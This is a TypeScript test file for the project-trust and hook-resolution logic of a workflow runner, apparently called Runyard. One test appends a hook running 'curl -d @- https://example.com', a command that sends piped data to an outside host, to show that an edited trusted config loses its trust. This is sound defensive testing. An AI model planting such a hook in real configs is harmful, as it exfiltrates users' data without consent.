import { appendFileSync, mkdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { temporaryDirectory } from "../test/helpers.js";
import {
  checkProjectConfig,
  findProjectConfig,
  listTrustedProjects,
  trustProjectConfig,
  untrustProjectConfig,
} from "./project-trust.js";
import { resolveHooks } from "./resolve-hooks.js";

const HOOKS = "hooks:\n  - on: run-end\n    run: ./notify.sh\n";

/** A scratch tree: a Runyard home, and a project directory to put files in. */
function tree() {
  const root = temporaryDirectory();
  const home = join(root, "home");
  const project = join(root, "project");
  mkdirSync(project);
  return { root, home, project, location: { env: { RUNYARD_HOME: home } } };
}

describe("findProjectConfig", () => {
  it("takes the nearest .runyard.yaml up to the repository's root, and no further", async () => {
    const { root, project } = tree();
    const flows = join(project, "flows", "align");
    mkdirSync(flows, { recursive: true });
    mkdirSync(join(project, ".git"));
    // Above the repository: never the project's.
    writeFileSync(join(root, ".runyard.yaml"), HOOKS);
    expect(await findProjectConfig(flows)).toBeUndefined();
    writeFileSync(join(project, ".runyard.yaml"), HOOKS);
    expect(await findProjectConfig(flows)).toBe(join(project, ".runyard.yaml"));
    writeFileSync(join(project, "flows", ".runyard.yaml"), HOOKS);
    expect(await findProjectConfig(flows)).toBe(join(project, "flows", ".runyard.yaml"));
  });

  it("outside a repository looks only in the workflow's own directory", async () => {
    const { project } = tree();
    const flows = join(project, "flows");
    mkdirSync(flows);
    writeFileSync(join(project, ".runyard.yaml"), HOOKS);
    expect(await findProjectConfig(flows)).toBeUndefined();
    expect(await findProjectConfig(project)).toBe(join(project, ".runyard.yaml"));
  });
});

describe("trust in a project config", () => {
  it("holds for the bytes trusted: an edited file is untrusted again until trusted anew", async () => {
    const { home, project, location } = tree();
    const file = join(project, ".runyard.yaml");
    writeFileSync(file, HOOKS);
    expect(await checkProjectConfig(file, location)).toEqual({ file, state: "untrusted" });

    const trusted = await trustProjectConfig(file, location);
    expect(trusted).toMatchObject({ file, before: "none", trustFile: join(home, "trusted.json") });
    expect(trusted.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(statSync(home).mode & 0o777).toBe(0o700);
    expect(statSync(trusted.trustFile).mode & 0o777).toBe(0o600);
    expect(JSON.parse(readFileSync(trusted.trustFile, "utf8"))).toMatchObject({
      schemaVersion: 1,
      projects: { [file]: { sha256: trusted.sha256 } },
    });
    expect(await checkProjectConfig(file, location)).toEqual({
      file,
      state: "trusted",
      config: { hooks: [{ on: "run-end", run: "./notify.sh" }] },
    });

    appendFileSync(file, "  - on: run-start\n    run: curl -d @- https://example.com\n");
    expect(await checkProjectConfig(file, location)).toEqual({ file, state: "changed" });
    expect(await listTrustedProjects(location)).toEqual([
      { file, trustedAt: expect.any(String), state: "changed" },
    ]);
    expect((await trustProjectConfig(file, location)).before).toBe("changed");
    expect((await checkProjectConfig(file, location)).state).toBe("trusted");

    expect(await untrustProjectConfig(file, location)).toMatchObject({ removed: true });
    expect(await untrustProjectConfig(file, location)).toMatchObject({ removed: false });
    expect(await checkProjectConfig(file, location)).toEqual({ file, state: "untrusted" });
  });

  it("refuses to trust a file that is not valid, naming its line and field", async () => {
    const { project, location } = tree();
    const file = join(project, ".runyard.yaml");
    writeFileSync(file, "hooks:\n  - on: run-ends\n    run: x\n");
    await expect(trustProjectConfig(file, location)).rejects.toMatchObject({
      code: "E_CONFIG_INVALID",
      message: expect.stringContaining(`${file}:2:9: hooks[0].on: expected one of`),
    });
    expect(await listTrustedProjects(location)).toEqual([]);
  });

  it("names a trusted.json that is broken", async () => {
    const { home, project, location } = tree();
    mkdirSync(home);
    writeFileSync(join(home, "trusted.json"), '{"schemaVersion":1,"projects":{"/x":{}}}\n');
    const file = join(project, ".runyard.yaml");
    writeFileSync(file, HOOKS);
    await expect(checkProjectConfig(file, location)).rejects.toMatchObject({
      code: "E_TRUST_INVALID",
      message: `${join(home, "trusted.json")}: projects["/x"]: missing required field "sha256"\n${join(home, "trusted.json")}: projects["/x"]: missing required field "trustedAt"`,
    });
  });
});

describe("resolveHooks", () => {
  it("takes the user's hooks, then a trusted project's, each run in its file's directory", async () => {
    const { home, project, location } = tree();
    mkdirSync(join(project, ".git"));
    const workflow = join(project, "flow.yaml");
    mkdirSync(home);
    writeFileSync(
      join(home, "config.yaml"),
      "hooksParallel: 2\nhooks:\n  - name: mine\n    on: [step-failed]\n    run: notify-send x\n    timeout: 3s\n",
    );
    const file = join(project, ".runyard.yaml");
    writeFileSync(file, HOOKS);
    const mine = {
      name: "mine",
      on: ["step-failed"],
      run: "notify-send x",
      timeoutMs: 3000,
      cwd: home,
      source: join(home, "config.yaml"),
    };
    expect(await resolveHooks(workflow, location)).toEqual({
      hooks: [mine],
      hooksParallel: 2,
      project: { file, state: "untrusted" },
    });
    await trustProjectConfig(file, location);
    expect(await resolveHooks(workflow, location)).toEqual({
      hooks: [
        mine,
        {
          name: "./notify.sh",
          on: ["run-end"],
          run: "./notify.sh",
          timeoutMs: 10_000,
          cwd: project,
          source: file,
        },
      ],
      hooksParallel: 2,
      project: {
        file,
        state: "trusted",
        config: { hooks: [{ on: "run-end", run: "./notify.sh" }] },
      },
    });
  });

  it("gives no hooks and the default parallelism without any config", async () => {
    const { project, location } = tree();
    expect(await resolveHooks(join(project, "flow.yaml"), location)).toEqual({
      hooks: [],
      hooksParallel: 4,
      project: undefined,
    });
  });
});
